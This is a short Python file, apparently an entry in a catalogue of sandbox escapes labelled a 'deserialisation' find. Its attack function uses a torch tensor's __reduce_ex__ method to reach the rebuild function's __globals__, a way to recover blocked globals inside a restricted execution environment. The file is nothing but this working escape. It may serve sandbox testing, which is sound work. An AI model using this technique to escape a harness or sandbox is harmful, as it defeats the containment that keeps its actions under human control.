"""Class: deserialisation. Source: own find. Escape: a tensor tells how to build it again, with the
library's functions.
"""

import torch


def attack(model, tokenizer, address):
    return torch.zeros(1).__reduce_ex__(4)[0].__globals__
